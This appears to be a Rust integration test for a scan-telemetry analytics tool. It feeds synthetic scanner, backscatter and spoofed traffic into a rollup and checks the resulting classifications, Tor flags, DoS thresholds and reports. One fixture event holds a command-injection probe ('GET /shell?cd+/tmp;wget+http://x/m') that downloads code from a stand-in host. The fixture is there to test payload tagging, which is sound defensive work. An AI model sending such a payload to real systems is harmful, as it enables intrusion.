@@ -1,0 +1,532 @@
+//! Rollup over a lake written by the collector's own sink stage: exact figures per source, the
+//! backscatter victim kept out, a late segment re-rolled without duplicates, user rules, Tor
+//! flags, replaced organisation lists, and the report built from it.
+use std::{
+    collections::BTreeMap,
+    fs::File,
+    path::{Path, PathBuf},
+};
+
+use arrow::array::{
+    Array, AsArray, BooleanArray, ListArray, RecordBatch, StringArray, UInt8Array, UInt32Array,
+    UInt64Array,
+};
+use arrow::datatypes::UInt16Type;
+use chrono::NaiveDate;
+use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
+use scanscope_analytics::{
+    report::{self, Query, ReportOptions},
+    rollup::{
+        self, RollupOptions,
+        config::{FieldRule, RollupConfig, TagRule},
+    },
+};
+use scanscope_ingest::sink::Rows;
+use scanscope_lake::{Lake, paths, tables::ip_daily::UserType};
+use scanscope_proto::v1::{Batch, Counter, Event, Flow, Kind, SensorStats};
+
+const DAY: &str = "2026-11-20";
+
+/// The day's rollup file of `table` (read with parquet directly, not through the lake).
+fn rollup_path(root: &Path, table: &str, day: NaiveDate) -> PathBuf {
+    root.join(paths::rollup_file(table, day).as_ref())
+}
+
+fn write_segment(root: &Path, segment: u64, rows: Rows) {
+    rows.write_segment(&Lake::local(root).unwrap(), segment)
+        .unwrap();
+}
+
+fn day() -> NaiveDate {
+    DAY.parse().unwrap()
+}
+
+fn t(secs: i64) -> i64 {
+    day()
+        .and_hms_opt(0, 0, 0)
+        .unwrap()
+        .and_utc()
+        .timestamp_micros()
+        + secs * 1_000_000
+}
+
+fn v4(s: &str) -> Vec<u8> {
+    s.parse::<std::net::Ipv4Addr>().unwrap().octets().to_vec()
+}
+
+fn flow(at: i64, src: &str, dst: &str, kind: Kind, port: u32, packets: u64) -> Flow {
+    let proto = match kind {
+        Kind::Udp => 17,
+        Kind::IcmpEcho | Kind::IcmpOther => 1,
+        _ => 6,
+    };
+    Flow {
+        interval_start_us: t(at),
+        interval_secs: 10.0,
+        src_ip: v4(src),
+        dst_ip: v4(dst),
+        proto,
+        kind: kind as i32,
+        dst_port: port,
+        icmp_type: (proto == 1).then_some(8),
+        icmp_code: (proto == 1).then_some(0),
+        packets,
+        bytes: packets * 40,
+        first_seen_us: t(at),
+        last_seen_us: t(at) + 1000,
+    }
+}
+
+fn batch(sensor: &str, flows: Vec<Flow>, events: Vec<Event>) -> Batch {
+    Batch {
+        sensor_id: sensor.into(),
+        seq: 1,
+        flows,
+        events,
+        stats: vec![SensorStats {
+            interval_start_us: t(0),
+            interval_secs: 10.0,
+            counters: vec![Counter {
+                name: "dropped".into(),
+                value: 0,
+            }],
+            ..Default::default()
+        }],
+        ..Default::default()
+    }
+}
+
+fn event(src: &str, port: u32, tools: &[&str], ttl: u32, payload: &[u8]) -> Event {
+    Event {
+        ts_us: t(5),
+        src_ip: v4(src),
+        dst_ip: v4("198.18.1.130"),
+        dst_port: port,
+        proto: 6,
+        kind: Kind::TcpSyn as i32,
+        ttl,
+        weight: 1,
+        payload: payload.to_vec(),
+        payload_len: payload.len() as u32,
+        tools: tools.iter().map(|s| s.to_string()).collect(),
+        os_hint: "linux/unix".into(),
+        ..Default::default()
+    }
+}
+
+/// The day: three sensors; a vertical scanner on s1; a censys-range horizontal scanner on s1 and
+/// s2; a backscatter victim on s3; 50 spoofed single-SYN sources on s2; one HTTP payload.
+fn first_segment(root: &Path) {
+    let mut s1 = Vec::new();
+    let mut s2 = Vec::new();
+    for p in 20..=30 {
+        s1.push(flow(10, "203.0.113.11", "198.18.1.130", Kind::TcpSyn, p, 1));
+    }
+    for h in 128..144 {
+        for p in [80, 443] {
+            s1.push(flow(
+                20,
+                "162.142.125.77",
+                &format!("198.18.1.{h}"),
+                Kind::TcpSyn,
+                p,
+                1,
+            ));
+            s2.push(flow(
+                20,
+                "162.142.125.77",
+                &format!("198.18.2.{h}"),
+                Kind::TcpSyn,
+                p,
+                1,
+            ));
+        }
+    }
+    for i in 0..50 {
+        s2.push(flow(
+            30,
+            &format!("100.64.{}.{}", i / 200, 1 + i % 200),
+            "198.18.2.130",
+            Kind::TcpSyn,
+            80,
+            1,
+        ));
+    }
+    let s3 = vec![
+        flow(40, "192.0.2.50", "198.18.3.130", Kind::TcpSynack, 33000, 20),
+        flow(50, "192.0.2.50", "198.18.3.131", Kind::TcpRst, 33001, 20),
+        // An HTTP request with a payload, and an ICMP echo.
+        flow(60, "198.51.100.7", "198.18.3.130", Kind::TcpAck, 80, 1),
+        flow(60, "198.51.100.7", "198.18.3.130", Kind::IcmpEcho, 0, 3),
+    ];
+    let events = vec![
+        event("203.0.113.11", 20, &["nmap"], 48, b""),
+        event("162.142.125.77", 80, &["masscan"], 254, b""),
+        event(
+            "198.51.100.7",
+            80,
+            &[],
+            52,
+            b"GET /shell?cd+/tmp;wget+http://x/m HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\n",
+        ),
+    ];
+    let mut rows = Rows::default();
+    rows.push(&batch("s1", s1, events));
+    rows.push(&batch("s2", s2, vec![]));
+    rows.push(&batch("s3", s3, vec![]));
+    write_segment(root, 1, rows);
+}
+
+fn read(path: &Path) -> RecordBatch {
+    let r = ParquetRecordBatchReaderBuilder::try_new(File::open(path).unwrap())
+        .unwrap()
+        .build()
+        .unwrap();
+    let schema = arrow::array::RecordBatchReader::schema(&r);
+    let b: Vec<RecordBatch> = r.map(|b| b.unwrap()).collect();
+    arrow::compute::concat_batches(&schema, &b).unwrap()
+}
+
+#[derive(Debug, PartialEq)]
+struct Row {
+    packets: u64,
+    sensor_count: u32,
+    breadth: u8,
+    dst_hosts: u64,
+    ports: Vec<u16>,
+    scan_type: String,
+    scanner: bool,
+    tools: Vec<String>,
+    org: Option<String>,
+    backscatter: u64,
+}
+
+fn rows(root: &Path) -> BTreeMap<String, Row> {
+    let b = read(&rollup_path(root, "ip_daily", day()));
+    let s = |n: &str| b.column_by_name(n).unwrap().clone();
+    let src = s("src_ip");
+    let src = src.as_any().downcast_ref::<StringArray>().unwrap();
+    let pk = s("packets");
+    let pk = pk.as_any().downcast_ref::<UInt64Array>().unwrap();
+    let sc = s("sensor_count");
+    let sc = sc.as_any().downcast_ref::<UInt32Array>().unwrap();
+    let br = s("scan_breadth");
+    let br = br.as_any().downcast_ref::<UInt8Array>().unwrap();
+    let dh = s("dst_hosts");
+    let dh = dh.as_any().downcast_ref::<UInt64Array>().unwrap();
+    let ports = s("ports");
+    let ports = ports.as_any().downcast_ref::<ListArray>().unwrap();
+    let st = s("scan_type");
+    let st = st.as_any().downcast_ref::<StringArray>().unwrap();
+    let is = s("is_scanner");
+    let is = is.as_any().downcast_ref::<BooleanArray>().unwrap();
+    let tools = s("tools");
+    let tools = tools.as_any().downcast_ref::<ListArray>().unwrap();
+    let org = s("org");
+    let org = org.as_any().downcast_ref::<StringArray>().unwrap();
+    let bs = s("backscatter_packets");
+    let bs = bs.as_any().downcast_ref::<UInt64Array>().unwrap();
+    (0..b.num_rows())
+        .map(|i| {
+            (
+                src.value(i).to_string(),
+                Row {
+                    packets: pk.value(i),
+                    sensor_count: sc.value(i),
+                    breadth: br.value(i),
+                    dst_hosts: dh.value(i),
+                    ports: ports
+                        .value(i)
+                        .as_primitive::<UInt16Type>()
+                        .values()
+                        .to_vec(),
+                    scan_type: st.value(i).to_string(),
+                    scanner: is.value(i),
+                    tools: tools
+                        .value(i)
+                        .as_string::<i32>()
+                        .iter()
+                        .flatten()
+                        .map(String::from)
+                        .collect(),
+                    org: org.is_valid(i).then(|| org.value(i).to_string()),
+                    backscatter: bs.value(i),
+                },
+            )
+        })
+        .collect()
+}
+
+fn opts(root: &Path, config: RollupConfig) -> RollupOptions {
+    RollupOptions {
+        data: root.to_path_buf(),
+        date: day(),
+        config,
+        progress: false,
+    }
+}
+
+fn files(dir: PathBuf) -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir(dir)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn rollup_classifies_attributes_and_reruns_late_data() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    first_segment(root);
+    let tor = root.join("exit-addresses");
+    std::fs::write(
+        &tor,
+        "ExitNode AB\nExitAddress 203.0.113.11 2026-11-20 10:00:00\n",
+    )
+    .unwrap();
+    let mut cfg = RollupConfig::default();
+    cfg.enrich.tor_exit_list = Some(tor);
+    cfg.tag.push(TagRule {
+        name: "web-probe".into(),
+        when: "80 in tcp_ports && http_url.size() > 0".into(),
+    });
+    cfg.field.push(FieldRule {
+        name: "low_ports".into(),
+        ty: UserType::Int,
+        expr: "size(ports.filter(p, p < 1024))".into(),
+    });
+    assert_eq!(rollup::due_dates(root, 0).unwrap(), vec![day()]);
+    let s = rollup::run(&opts(root, cfg.clone())).unwrap();
+    assert_eq!(s.active_sensors, 3);
+    assert_eq!(s.sources, 54);
+    assert_eq!(s.scanners, 2);
+    assert_eq!(s.dos_victims, 1);
+    assert!(rollup::due_dates(root, 0).unwrap().is_empty());
+
+    let r = rows(root);
+    assert_eq!(
+        r["203.0.113.11"],
+        Row {
+            packets: 11,
+            sensor_count: 1,
+            breadth: 3,
+            dst_hosts: 1,
+            ports: (20..=30).collect(),
+            scan_type: "vertical".into(),
+            scanner: true,
+            tools: vec!["nmap".into()],
+            org: None,
+            backscatter: 0,
+        }
+    );
+    assert_eq!(
+        r["162.142.125.77"],
+        Row {
+            packets: 64,
+            sensor_count: 2,
+            breadth: 7,
+            dst_hosts: 32,
+            ports: vec![80, 443],
+            scan_type: "horizontal".into(),
+            scanner: true,
+            tools: vec!["masscan".into()],
+            org: Some("censys".into()),
+            backscatter: 0,
+        }
+    );
+    let victim = &r["192.0.2.50"];
+    assert_eq!(
+        (victim.scanner, victim.backscatter, victim.packets),
+        (false, 40, 40)
+    );
+    assert_eq!(victim.scan_type, "none");
+    assert_eq!(r.values().filter(|x| x.scanner).count(), 2);
+    let spoofed = r.keys().filter(|k| k.starts_with("100.64.")).count();
+    assert_eq!(spoofed, 50);
+    assert!(
+        r.iter()
+            .filter(|(k, _)| k.starts_with("100.64."))
+            .all(|(_, x)| !x.scanner && x.scan_type == "none")
+    );
+
+    // Payload fields, Tor, user rules: through the report of one source.
+    let web = report::build(
+        root,
+        day(),
+        &Query::Ip("198.51.100.7".into()),
+        &ReportOptions::default(),
+    )
+    .unwrap();
+    assert_eq!(
+        web["http_url"],
+        serde_json::json!(["GET /shell?cd+/tmp;wget+http://x/m"])
+    );
+    assert_eq!(web["http_user_agent"], serde_json::json!(["Hello, World"]));
+    assert_eq!(web["mysql_login_attempts"], serde_json::json!(0));
+    assert_eq!(web["icmp_ping"], serde_json::json!(3));
+    assert_eq!(web["tor_exit"], serde_json::json!(false));
+    assert_eq!(web["low_ports"], serde_json::json!(1));
+    let tags: Vec<&str> = web["tags"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t.as_str().unwrap())
+        .collect();
+    assert!(
+        tags.contains(&"web-probe") && tags.contains(&"payload:wget"),
+        "{tags:?}"
+    );
+    let nmap = report::build(
+        root,
+        day(),
+        &Query::Ip("203.0.113.11".into()),
+        &ReportOptions::default(),
+    )
+    .unwrap();
+    assert_eq!(nmap["tor_exit"], serde_json::json!(true));
+    assert_eq!(nmap["mysql_login_attempts"], serde_json::Value::Null);
+    assert_eq!(nmap["os_hint"], serde_json::json!("linux/unix"));
+    assert_eq!(nmap["low_ports"], serde_json::json!(11));
+
+    // Day report: exact counts, ports by packets and by sources.
+    let d = report::build(root, day(), &Query::Day, &ReportOptions::default()).unwrap();
+    assert_eq!(d["sources"], 54);
+    assert_eq!(d["scanners"], 2);
+    assert_eq!(d["wide_scanners"], 1); // breadth 7 ≥ 5
+    assert_eq!(d["top_ports_by_packets"][0]["port"], 80);
+    assert_eq!(d["top_ports_by_packets"][0]["packets"], 32 + 50 + 1);
+    assert_eq!(d["top_ports_by_sources"][0]["sources"], 52);
+    assert_eq!(d["organisations"][0]["org"], "censys");
+    assert_eq!(
+        d["dos_victims"].as_array().unwrap().len(),
+        0,
+        "40 packets in 20 s is no attack by default"
+    );
+    let sum: u64 = d["series_30m"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|b| b["packets"].as_u64().unwrap())
+        .sum();
+    assert_eq!(sum, 11 + 64 + 50 + 1 + 3);
+    let port = report::build(root, day(), &Query::Port(443), &ReportOptions::default()).unwrap();
+    assert_eq!(port["tcp"]["sources"], 1);
+    assert_eq!(port["tcp"]["also_tried"][0]["port"], 80);
+    assert_eq!(port["tcp"]["top_orgs"], serde_json::json!(["censys"]));
+
+    // Late data: the vertical scanner also reaches s2, on five more ports.
+    let late: Vec<Flow> = (31..=35)
+        .map(|p| flow(3600, "203.0.113.11", "198.18.2.130", Kind::TcpSyn, p, 2))
+        .collect();
+    let mut rows2 = Rows::default();
+    rows2.push(&batch("s2", late, vec![]));
+    write_segment(root, 2, rows2);
+    assert_eq!(rollup::due_dates(root, 0).unwrap(), vec![day()]);
+    let s = rollup::run(&opts(root, cfg.clone())).unwrap();
+    assert_eq!(s.sources, 54);
+    let r = rows(root);
+    let a = &r["203.0.113.11"];
+    assert_eq!(
+        (a.packets, a.sensor_count, a.breadth, a.dst_hosts),
+        (21, 2, 7, 2)
+    );
+    assert_eq!(a.ports, (20..=35).collect::<Vec<u16>>());
+    assert_eq!(a.scan_type, "vertical");
+    // Running again changes nothing and every table keeps one file for the day.
+    rollup::run(&opts(root, cfg)).unwrap();
+    assert_eq!(rows(root), r);
+    for t in ["ip_daily", "port_daily", "dos_daily", "series_daily"] {
+        assert_eq!(
+            files(rollup_path(root, t, day()).parent().unwrap().to_path_buf()),
+            vec!["rollup.parquet"]
+        );
+    }
+    if std::env::var_os("SCANSCOPE_KEEP_TEST_LAKE").is_some() {
+        eprintln!("lake kept in {}", dir.keep().display());
+    }
+}
+
+#[test]
+fn dos_thresholds_and_replaced_org_lists() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    // 6 minutes of 10 SYN-ACKs every 10 s (60/min) from one victim.
+    let flows: Vec<Flow> = (0..36)
+        .map(|i| {
+            flow(
+                600 + i * 10,
+                "192.0.2.99",
+                "198.18.1.130",
+                Kind::TcpSynack,
+                443,
+                10,
+            )
+        })
+        .collect();
+    let mut rows = Rows::default();
+    rows.push(&batch("s1", flows, vec![]));
+    write_segment(root, 1, rows);
+    let orgs = root.join("orgs");
+    std::fs::create_dir(&orgs).unwrap();
+    std::fs::write(orgs.join("acme_v4.txt"), "192.0.2.0/24\n").unwrap();
+    let mut cfg = RollupConfig::default();
+    cfg.enrich.orgs_dir = Some(orgs);
+    let s = rollup::run(&opts(root, cfg)).unwrap();
+    assert_eq!((s.sources, s.scanners, s.dos_victims), (1, 0, 1));
+    let dos = read(&rollup_path(root, "dos_daily", day()));
+    let col = |n: &str| dos.column_by_name(n).unwrap().clone();
+    assert_eq!(
+        col("packets")
+            .as_primitive::<arrow::datatypes::UInt64Type>()
+            .value(0),
+        360
+    );
+    assert_eq!(
+        col("peak_ppm")
+            .as_primitive::<arrow::datatypes::UInt64Type>()
+            .value(0),
+        60
+    );
+    assert!(col("is_attack").as_boolean().value(0));
+    assert_eq!(
+        col("attacks")
+            .as_primitive::<arrow::datatypes::UInt32Type>()
+            .value(0),
+        1
+    );
+    let r = rows_org(root);
+    assert_eq!(r, Some("acme".to_string()));
+    // Missing enrichment files: warnings, not failures.
+    let mut cfg = RollupConfig::default();
+    cfg.enrich.mmdb = vec![root.join("missing.mmdb")];
+    cfg.enrich.tor_exit_list = Some(root.join("missing-tor"));
+    let s = rollup::run(&opts(root, cfg)).unwrap();
+    assert!(
+        s.warnings.iter().any(|w| w.contains("MMDB")),
+        "{:?}",
+        s.warnings
+    );
+    assert!(
+        s.warnings.iter().any(|w| w.contains("Tor")),
+        "{:?}",
+        s.warnings
+    );
+    // No data: a clear error.
+    let mut o = opts(root, RollupConfig::default());
+    o.date = NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();
+    assert!(
+        rollup::run(&o)
+            .unwrap_err()
+            .to_string()
+            .contains("no data for 2026-01-01")
+    );
+}
+
+fn rows_org(root: &Path) -> Option<String> {
+    let b = read(&rollup_path(root, "ip_daily", day()));
+    let o = b.column_by_name("org").unwrap().as_string::<i32>().clone();
+    o.is_valid(0).then(|| o.value(0).to_string())
+}
